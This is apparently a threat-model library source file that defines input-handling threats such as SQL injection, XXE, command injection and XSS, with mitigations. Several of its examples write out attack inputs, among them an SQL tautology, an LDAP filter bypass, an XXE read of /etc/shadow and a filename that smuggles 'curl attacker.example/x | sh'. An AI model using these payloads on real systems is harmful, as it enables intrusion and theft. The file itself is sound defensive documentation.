// tmc's library: input handling: injection, cross-site scripting, parsing
// and memory corruption.
//
// pytm raises most of these threats on every server or process that lacks
// a validation control. Here each one needs the part of the model that the
// attack goes through: SQL injection a SQL store the element writes to,
// LDAP injection an LDAP directory, XSS an element that serves browsers,
// XML attacks an XML parser, buffer overflows native code. Variants of one
// attack are folded into one threat (the XSS variants into INP39, the
// buffer overflows into INP02, the command injections into INP31, the XML
// blow-ups into INP19 and DO04 in platform.tm); the others of pytm's INP and
// SC threats are not declared here.

/// The element is a datastore queried with SQL (`isSQLStore`).
predicate sqlStore(e: Element) = e is Datastore and isSQLStore(e)

/// The element is a datastore of the given `type`.
predicate storeOfType(e: Element, t: DatastoreType) = e is Datastore and e.type == t

/// The asset sends requests to, or receives flows from, a datastore of the given `type`.
predicate usesStoreOfType(a: Asset, t: DatastoreType) =
  (any f in a.outputs: storeOfType(f.sink, t)) or (any f in a.inputs: storeOfType(f.source, t))

/// The flow speaks HTTP or HTTPS (written on it, or taken from its sink).
predicate isWebFlow(f: Dataflow) = f.protocol in ["HTTP", "HTTPS"]

/// The element is a server, process or lambda: something a proxy forwards requests to.
predicate forwardsTo(e: Element) = e is Server or e is Process or e is Lambda

/// The asset renders content in browsers: a process that serves client-side
/// scripts, or a server that an actor reaches over HTTP(S).
predicate servesBrowsers(a: Asset) =
  (a is Process and a.allowsClientSideScripting)
  or (a is Server and (any f in a.inputs: f.source is Actor and isWebFlow(f)))

/// The asset parses XML: a server with `usesXMLParser`, or an asset that
/// receives data whose `format` is "XML".
predicate parsesXML(a: Asset) =
  (a is Server and a.usesXMLParser) or (any f in a.inputs: any d in f.data: d.format == "XML")

threat INP02 "Memory corruption in native code" refines pytm.INP02 {
  targets = [Process]
  stride = [Tampering, ElevationOfPrivilege, DenialOfService]
  severity = High
  likelihood = Medium
  when = target.codeType == "Unmanaged"
         and (count(target.inputs) > 0 or target.usesEnvironmentVariables)
         and not (target.controls.checksInputBounds and target.controls.usesSecureFunctions)
  capec = [100, 10, 123]
  cwe = [119, 120, 134]
  details = """
    The process is native code (`codeType` "Unmanaged", the default), so the
    language does not stop it from writing past the end of a buffer or from
    reading a format string out of the data. Input that is longer, or shaped
    differently, than the programmer assumed, whether it comes in a request,
    a file or an environment variable, can overwrite neighbouring memory:
    return addresses, function pointers, heap metadata. A crafted input turns
    that into running the attacker's code with the rights of the process; a
    clumsy one crashes it. Code written in a memory-safe language (Java, C#,
    Go, Rust without `unsafe`, Python, JavaScript) is not open to this.
    """
  prerequisites = """
    The process is written in C, C++ or another language without bounds
    checks, and takes input (from its flows or from environment variables)
    whose size it does not check before copying it.
    """
  mitigations = """
    Check the length of every input against the size of the buffer it goes
    into and set `controls.checksInputBounds = true`; replace unbounded calls
    (strcpy, sprintf, gets) by bounded ones, never pass input as a format
    string, and set `controls.usesSecureFunctions = true`. Build with stack
    protectors, ASLR, non-executable memory and control-flow integrity, and
    fuzz the input parsers. Where you can, move the parsing into a
    memory-safe language; if the process already is managed code, set
    `codeType = "Managed"`.
    """
  example = """
    An image converter written in C copies the comment field of an uploaded
    file into a fixed 256-byte buffer. A file with a 4 KB comment overwrites
    the return address and runs the attacker's shell code on the worker.
    """
  references = [
    "https://capec.mitre.org/data/definitions/100.html",
    "https://cwe.mitre.org/data/definitions/120.html",
    "https://cwe.mitre.org/data/definitions/134.html",
  ]
}

threat INP05 "SQL injection" refines pytm.INP05 {
  targets = [Server, Process, Lambda]
  stride = [Tampering, InformationDisclosure, ElevationOfPrivilege]
  severity = VeryHigh
  likelihood = High
  when = not target.controls.usesParameterizedInput
         and count(target.inputs) > 0
         and (any f in target.outputs: sqlStore(f.sink))
  capec = [66, 108]
  cwe = [89]
  details = """
    The element takes requests and sends queries to a SQL database. If it
    builds the query text by pasting values from the request into it, a value
    that contains quotes or SQL keywords changes what the query does: it can
    return every row instead of one, skip a password check, change or delete
    data, and on many database engines read files or run operating-system
    commands. The risk is highest when the requests come straight from the
    internet, which is how the threat is rated; it is lower behind trusted
    callers.
    """
  prerequisites = """
    The element receives input and sends queries to a datastore queried with
    SQL (`type = SQL`, or `isSQL` with the type left unset), and some of those
    queries are built by concatenating input into the SQL text.
    """
  mitigations = """
    Send every value as a bound parameter of a prepared statement, or through
    an ORM that does so, never as part of the SQL text, and set
    `controls.usesParameterizedInput = true` once no query is built by
    concatenation. Where identifiers such as column names come from input,
    pick them from an allow-list. Give the database account only the rights
    the element needs, so that an injected query cannot drop tables or reach
    other schemas.
    """
  example = """
    An order lookup builds `SELECT * FROM orders WHERE id = '` + id + `'`. A
    caller sends an id ending in `' OR '1'='1` and receives the orders of
    every customer.
    """
  references = [
    "https://capec.mitre.org/data/definitions/66.html",
    "https://cwe.mitre.org/data/definitions/89.html",
  ]
}

threat INP09 "LDAP injection" refines pytm.INP09 {
  targets = [Server, Process, Lambda]
  stride = [Tampering, InformationDisclosure, ElevationOfPrivilege]
  severity = High
  likelihood = Medium
  when = not target.controls.sanitizesInput
         and not target.controls.usesParameterizedInput
         and count(target.inputs) > 0
         and usesStoreOfType(target, LDAP)
  details = """
    The element looks things up in an LDAP directory (a datastore with
    `type = LDAP`), typically to log users in or to find their groups. If it
    writes values from the request into the search filter as they are,
    characters such as `*`, `(`, `)` and `|` change the filter: a login can
    match any account, or a search can return entries and attributes the
    caller was never meant to see.
    """
  prerequisites = """
    The element receives input and builds LDAP search filters or distinguished
    names from it without escaping the LDAP special characters.
    """
  mitigations = """
    Escape every value placed in a filter or a distinguished name with the
    LDAP encoder of your library, or use an API that takes the values as
    parameters, and set `controls.sanitizesInput = true` (or
    `controls.usesParameterizedInput = true`). Bind to the directory with an
    account that can read only what the element needs.
    """
  example = """
    A login form searches `(&(uid=` + name + `)(userPassword=` + pw + `))`.
    Entering `*)(uid=*))(|(uid=*` as the name makes the filter match the first
    account in the directory, whatever the password.
    """
}

threat INP15 refines pytm.INP15 {
  stride = [Tampering, Spoofing]
  likelihood = Medium
}

threat INP19 "XML external entity (XXE) injection" refines pytm.INP19 {
  targets = [Server, Process, Lambda]
  stride = [InformationDisclosure, Tampering]
  severity = High
  likelihood = Medium
  when = parsesXML(target) and not target.controls.disablesDTD
  capec = [221]
  cwe = [611]
  details = """
    The element parses XML with document type definitions enabled. A document
    can then declare an external entity that points at a local file or a URL,
    and the parser replaces each use of the entity by what it fetched. The
    attacker reads files such as keys and configuration back in the response
    or in an error message, or makes the element send requests to internal
    hosts and cloud metadata endpoints on their behalf.
    """
  prerequisites = """
    The element parses XML (a server with `usesXMLParser`, or data of
    `format` "XML" flowing into it) and its parser resolves DTDs and external
    entities.
    """
  mitigations = """
    Turn off DTD processing and external entity resolution in every XML
    parser the element uses (most libraries have one setting for it), then
    set `controls.disablesDTD = true`. Where a DTD is really needed, resolve
    entities only from a local catalogue. Prefer JSON where XML is not
    required.
    """
  example = """
    An invoice import accepts XML. An invoice whose DTD declares an entity for
    `file:///etc/shadow` and uses it in the customer name field shows the
    password hashes of the host in the import report.
    """
  references = [
    "https://capec.mitre.org/data/definitions/221.html",
    "https://cwe.mitre.org/data/definitions/611.html",
  ]
}

threat INP20 "Clickjacking" refines pytm.INP20 {
  targets = [Server, Process]
  stride = [Spoofing, Tampering]
  severity = Medium
  likelihood = Low
  when = servesBrowsers(target) and not target.controls.disablesiFrames
  details = """
    Another site loads the element's pages in an invisible frame laid over
    its own content. The victim thinks they click the visible page, but the
    click lands on a button of the framed page, where they are logged in:
    they change a setting, confirm a payment or grant a permission without
    knowing it.
    """
  prerequisites = """
    The element serves pages to browsers (it allows client-side scripting,
    or an actor reaches it over HTTP(S)) and does not forbid other sites to
    frame them.
    """
  mitigations = """
    Send `Content-Security-Policy: frame-ancestors 'self'` (or
    `X-Frame-Options: DENY`) on every page, and set
    `controls.disablesiFrames = true`. Ask for confirmation, with a fresh
    authentication, before actions that matter.
    """
  example = """
    A game page frames a bank's transfer confirmation page at zero opacity
    under its "Play" button; players who click it confirm a prepared
    transfer.
    """
}

threat INP31 "OS command injection" refines pytm.INP31 {
  targets = [Process, Lambda]
  stride = [Tampering, ElevationOfPrivilege]
  severity = High
  likelihood = Low
  when = target.exposure <= DMZ
         and not target.controls.validatesInput
         and not target.controls.usesParameterizedInput
  capec = [88, 15, 6]
  cwe = [77, 78, 88]
  details = """
    The process can be reached from outside the internal network and does not
    check its input. If it runs operating-system commands or other programs
    (to convert files, send mail, call a script) and puts parts of the
    request in the command line, characters such as `;`, `|`, `&&`, a
    backtick or an argument starting with `-` add commands or options of the
    attacker's choosing, which run with the process's rights. The model does
    not say whether the process runs commands, so the likelihood is rated
    low: dismiss the finding where it does not.
    """
  prerequisites = """
    The process receives input from a less trusted zone (its `exposure` is DMZ
    or lower) and passes part of it to a shell or to another program's
    command line.
    """
  mitigations = """
    Call programs with an argument list (execve-style, no shell) and never
    build a command string; end options with `--` before values. Check each
    value against what is expected (type, length, characters) and set
    `controls.validatesInput = true`; once every call passes values as
    separate arguments, set `controls.usesParameterizedInput = true`. Run the
    process with an account that can do little else.
    """
  example = """
    A document service converts uploads by running
    `convert <name> out.pdf` through the shell. An upload named
    `a.png; curl attacker.example/x | sh` downloads and runs a script on the
    server.
    """
  references = [
    "https://capec.mitre.org/data/definitions/88.html",
    "https://cwe.mitre.org/data/definitions/78.html",
  ]
}

threat INP37 "HTTP request smuggling" refines pytm.INP37 {
  targets = [Server]
  stride = [Tampering, Spoofing]
  severity = High
  likelihood = Low
  when = not target.controls.implementsStrictHTTPValidation
         and (any f in target.inputs: isWebFlow(f))
         and (any f in target.outputs: isWebFlow(f) and forwardsTo(f.sink))
  capec = [33]
  cwe = [444]
  details = """
    The server passes the HTTP requests it receives on to another server or
    process. When the two read the length of a request differently (a
    request with both `Content-Length` and `Transfer-Encoding`, or a
    malformed chunk), the attacker can hide a second request inside the
    first. The next hop treats it as the start of another user's request: it
    can slip past the front end's access rules, poison a cache, or capture
    another user's request with their cookies.
    """
  prerequisites = """
    The server receives HTTP(S) and forwards it over HTTP(S) to another
    server or process, and the two parse ambiguous requests differently.
    """
  mitigations = """
    Reject ambiguous requests at the front (both length headers, malformed
    chunking, invalid header characters) and set
    `controls.implementsStrictHTTPValidation = true`. Use HTTP/2 end to end
    where possible, keep proxy and back end on versions that agree on
    parsing, and do not reuse back-end connections across clients when in
    doubt.
    """
  example = """
    A load balancer honours `Content-Length` and the application server
    `Transfer-Encoding`. An attacker's request carries a hidden
    `GET /admin` that the application server reads as the next request, past
    the balancer's block on that path.
    """
}

threat INP39 "Cross-site scripting (XSS)" refines pytm.INP39 {
  targets = [Server, Process]
  stride = [Tampering, InformationDisclosure, Spoofing]
  severity = High
  likelihood = High
  when = servesBrowsers(target) and not target.controls.encodesOutput
  capec = [63, 591, 592, 588]
  cwe = [79]
  details = """
    The element puts data into pages that a browser renders. Data that came
    from a user, whether reflected from the request, stored earlier, or read
    by the page's own script from the URL, is written into HTML, an attribute,
    a URL or a script without being encoded for that place, so the browser
    runs it as code. The script acts in the victim's session: it reads what
    the page shows, sends requests as the victim, or changes the page to ask
    for their password. This one threat covers reflected, stored and
    DOM-based XSS and the filter-evasion variants.
    """
  prerequisites = """
    The element serves browsers (a process with `allowsClientSideScripting`,
    or a server an actor reaches over HTTP(S)) and writes user-controlled
    data into its pages without context-aware encoding.
    """
  mitigations = """
    Build pages with a template engine that encodes every value for its
    context by default, use safe DOM APIs (`textContent`, not `innerHTML`) in
    client code, and sanitise rich text with a maintained HTML sanitiser; then
    set `controls.encodesOutput = true`. Add a Content Security Policy without
    inline scripts, and mark session cookies HttpOnly.
    """
  example = """
    A support page shows the search term back: "No results for ...". A link
    whose term is a script tag, sent to an agent, runs in the agent's session
    and reads the open tickets.
    """
  references = [
    "https://capec.mitre.org/data/definitions/63.html",
    "https://cwe.mitre.org/data/definitions/79.html",
  ]
}

threat SC05 "Security checks left to the client" refines pytm.SC05 {
  targets = [Server, Process, Lambda]
  stride = [Tampering, ElevationOfPrivilege]
  severity = Medium
  likelihood = Medium
  when = not target.controls.implementsServerSideValidation
         and (any f in target.inputs: f.source is Actor)
  details = """
    An actor's client (a browser page, a mobile app) checks input, computes
    prices or hides functions the user may not use, and this element accepts
    what the client sends. The client runs on the actor's device, so its
    checks can be edited out, or the requests sent without it. Whatever the
    element does not check again, the attacker decides.
    """
  prerequisites = """
    The element receives requests from an actor and relies on checks made in
    the actor's client.
    """
  mitigations = """
    Repeat on the element every validation, authorization and calculation the
    client does, computing prices and entitlements from server-side data, and
    set `controls.implementsServerSideValidation = true`.
    """
  example = """
    A shop's app computes the discount and sends the final price. Editing the
    request in a proxy buys a laptop for one cent.
    """
}
